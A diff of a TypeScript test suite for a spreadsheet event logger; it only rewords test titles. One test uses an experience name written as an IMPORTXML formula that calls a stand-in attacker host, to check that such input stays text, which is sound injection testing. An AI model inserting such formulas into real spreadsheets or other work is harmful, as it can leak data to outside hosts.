@@ -34,7 +34,7 @@ const HEADERS = [
 ];
 
 describe('a row per event', () => {
-  test('goes below the last, in a tab that is created with its headers', async () => {
+  test('an event’s row goes below the last one, in a tab that is created with its headers', async () => {
     await deliver(destination, sampleMessage('create'), sampleMessage('start'));
     const [headers, created, started] = fake.spreadsheet.shown(LOG);
     expect(headers?.slice(0, 6)).toEqual(HEADERS);
@@ -56,7 +56,7 @@ describe('a row per event', () => {
     ).toBe(6);
   });
 
-  test('the timestamp is a date-time, in the spreadsheet’s time zone or the setting’s', async () => {
+  test('a timestamp is a date-time cell in the time zone of the spreadsheet or the setting', async () => {
     await deliver(destination, sampleMessage('start'));
     const cell = fake.spreadsheet.cell(LOG, 1, 3);
     expect(cell?.userEnteredValue).toEqual({ numberValue: 46267.22916666667 });
@@ -67,14 +67,14 @@ describe('a row per event', () => {
     expect(fake.spreadsheet.shown('Zurich')[1]?.[3]).toBe('2026-09-02 11:30:00');
   });
 
-  test('a name that looks like a formula stays text', async () => {
+  test('a name that looks like a formula stays a text', async () => {
     const payload = samplePayload('start');
     const name = '=IMPORTXML("https://evil.example","//a")';
     await deliver(destination, messageOf({ ...payload, experience: { ...payload.experience, name } }));
     expect(fake.spreadsheet.cell(LOG, 1, 0)?.userEnteredValue).toEqual({ stringValue: name });
   });
 
-  test('a report has a tab of its own', async () => {
+  test('a report goes to its own tab', async () => {
     await deliver(destination, SAMPLE_REPORT);
     expect(fake.spreadsheet.shown('Reports')[1]?.slice(1, 3)).toEqual([
       'Digest',
@@ -82,7 +82,7 @@ describe('a row per event', () => {
     ]);
   });
 
-  test('chosen columns follow the six, under the headers that a map gives them', async () => {
+  test('chosen columns follow the first six, under the headers that a map sets', async () => {
     const chosen = await openOn(fake, {
       tab: 'Chosen',
       columns: { Now: 'status', 'Which test': 'experience name', Key: 'eventKey' },
@@ -95,7 +95,7 @@ describe('a row per event', () => {
     expect(fake.spreadsheet.sheet('Chosen').columns.some(({ hidden }) => hidden)).toBe(false);
   });
 
-  test('a tab per month and organization', async () => {
+  test('a tab can be created per month and organization', async () => {
     const monthly = await openOn(fake, { tab: '{organization} {month}' });
     await deliver(monthly, sampleMessage('start'), sampleMessage('end'));
     await monthly.close();
@@ -104,7 +104,7 @@ describe('a row per event', () => {
 });
 
 describe('rows that come at the same time', () => {
-  test('the first is written at once, and those that come meanwhile together in the next write', async () => {
+  test('the first row is written at once, and rows that arrive meanwhile go together in the next write', async () => {
     fake.delayMs = 20;
     const first = destination.send(startOf(0), attempt());
     while (fake.calls.length === 0) {
@@ -119,7 +119,7 @@ describe('rows that come at the same time', () => {
     expect(fake.spreadsheet.records(EXPERIENCES)).toHaveLength(41);
   });
 
-  test('cost one read and one write once the tabs are known', async () => {
+  test('rows that arrive together cost one read and one write once the tabs are known', async () => {
     await deliver(destination, sampleMessage('create'), sampleMessage('start'));
     fake.calls.length = 0;
     await deliver(destination, sampleMessage('update'));
@@ -128,7 +128,7 @@ describe('rows that come at the same time', () => {
 });
 
 describe('one row per experience', () => {
-  test('is kept up to date next to the log', async () => {
+  test('the experience’s row is kept up to date next to the log', async () => {
     await deliver(destination, sampleMessage('create'), sampleMessage('start'));
     const [running] = fake.spreadsheet.records(EXPERIENCES);
     expect(running).toMatchObject({ Status: 'Started', 'Last Event': 'Experience Started' });
@@ -148,7 +148,7 @@ describe('one row per experience', () => {
     expect(fake.spreadsheet.records(LOG)).toHaveLength(5);
   });
 
-  test('is not turned back by a late event', async () => {
+  test('a late event does not set the experience’s row back', async () => {
     await deliver(destination, sampleMessage('end'));
     const { state, history } = sampleMessage('end');
     await deliver(destination, sampleMessage('start', { late: true, state, history }));
@@ -157,7 +157,7 @@ describe('one row per experience', () => {
     ]);
   });
 
-  test('gets columns for the results once they are known', async () => {
+  test('the experience’s row gets columns for the results once they are known', async () => {
     await deliver(destination, sampleMessage('end'));
     expect(Object.keys(fake.spreadsheet.records(EXPERIENCES)[0] ?? {})).not.toContain('Verdict');
     const variation = {
